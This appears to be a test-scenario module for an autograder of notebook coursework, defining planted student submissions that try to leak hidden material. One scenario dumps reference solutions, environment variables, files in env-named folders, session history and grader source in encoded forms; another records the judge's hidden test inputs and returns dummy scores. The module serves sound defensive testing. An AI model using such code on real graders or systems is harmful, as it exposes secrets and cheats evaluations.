"""Attack corpus scenarios: Leaking hidden material into the feedback.

Registered in order by build_corpus.py, which imports every scenario module.
"""

from __future__ import annotations

from .corpus_base import LOST, STUB, code, expect, scenario, zero
from .corpus_context import files_of
from .corpus_planted import LEAK_CODE


# Leaking hidden material into the feedback -------------------------------------------------------

@scenario("leak-feedback-dump",
          "04_unet not written; its last cell prints, plain and encoded (zlib+base64, base64, hex, "
          "rot13) on stdout, stderr and as HTML/JSON display data: the source of the earlier reference "
          "conv_block and upsampling_block, every linecache entry of loaded definitions, every file in "
          "every folder an environment variable names, the environment, In/Out, and the sources of the "
          "course/test_utils/grader modules loaded",
          ("04_unet",), expect(zero("unet_model"), STUB, targets=["unet_model"],
                               no_leak=["solution", "hidden", "environ"]), tags=("leak",))
def _(ctx):
    nb = ctx.release("04_unet")
    ctx.append(nb, LEAK_CODE + code('''

        import inspect, json, linecache, os, sys
        from IPython import get_ipython

        shell = get_ipython()
        for function in (conv_block, upsampling_block):
            try:
                _leak("source-" + function.__name__, inspect.getsource(function))
            except (OSError, TypeError) as error:
                print(function, error)
        for name, entry in list(linecache.cache.items()):
            if str(name).startswith("<") and len(entry) > 2 and entry[2]:
                _leak("linecache-" + str(name), "".join(entry[2]))
        count = 0
        for key, value in sorted(os.environ.items()):
            if not os.path.isdir(value) or value in ("/", "/usr", "/bin", "/tmp"):
                continue
            for folder, dirs, files in os.walk(value):
                for name in files:
                    path = os.path.join(folder, name)
                    if count < 40 and os.path.getsize(path) < 2_000_000 and not name.endswith((".pyc", ".so")):
                        count += 1
                        _leak(f"env-{key}-{name}", open(path, "rb").read())
        _leak("environ", json.dumps(dict(os.environ), indent=1))
        _leak("history-In", "\\n#---\\n".join(shell.user_ns.get("In", [])))
        _leak("history-Out", repr(shell.user_ns.get("Out", {}))[:100000])
        for module_name, module in sorted(sys.modules.items()):
            if module_name.split(".")[0] in ("course", "test_utils", "grader", "judge") and getattr(module, "__file__", None):
                try:
                    _leak("module-" + module_name, open(module.__file__, "rb").read())
                except OSError:
                    pass
    '''))
    ctx.drop_calls(nb, "unet_model", "draw_unet", "layout")
    return files_of({"04_unet": nb})


@scenario("leak-probe-inputs",
          "pixel_accuracy, mean_iou and compile_model record every argument the judge calls them with "
          "(PROBE-ARGS lines: npz in base64, on stdout, stderr and display data) so that the hidden "
          "inputs, with the expected values of the failure messages, reach the student for the next "
          "attempt; they answer 0.5 / compile nothing",
          ("05_training",), expect({}, LOST, targets=["compile_model", "pixel_accuracy", "mean_iou"],
                                   no_leak=["probe-output"]), tags=("leak",))
def _(ctx):
    nb = ctx.release("05_training")
    ctx.replace_function(nb, "compile_model", code('''
        import base64, io, sys


        def _record(name, *args, **kwargs):
            buffer = io.BytesIO()
            try:
                np.savez(buffer, *[np.asarray(a) for a in args])
                payload = base64.b64encode(buffer.getvalue()).decode()
            except Exception:
                payload = base64.b64encode(repr(args).encode()).decode()
            line = f"PROBE-ARGS:{name}:{kwargs}:{payload}"
            print(line)
            print(line, file=sys.stderr)
            try:
                from IPython.display import display
                display({"text/plain": line}, raw=True)
            except Exception:
                pass


        def compile_model(model, learning_rate=0.001):
            _record("compile_model", learning_rate, learning_rate=learning_rate)
            try:
                _record("compile_model-config", model.to_json())
            except Exception:
                pass
            return model
    '''))
    ctx.replace_function(nb, "pixel_accuracy", code('''
        def pixel_accuracy(y_true, y_pred):
            _record("pixel_accuracy", y_true, y_pred)
            return 0.5
    '''))
    ctx.replace_function(nb, "mean_iou", code('''
        def mean_iou(y_true, y_pred, n_classes=23):
            _record("mean_iou", y_true, y_pred, n_classes=n_classes)
            return 0.5
    '''))
    ctx.drop_calls(nb, "compile_model", "pixel_accuracy", "mean_iou")
    return files_of({"05_training": nb})


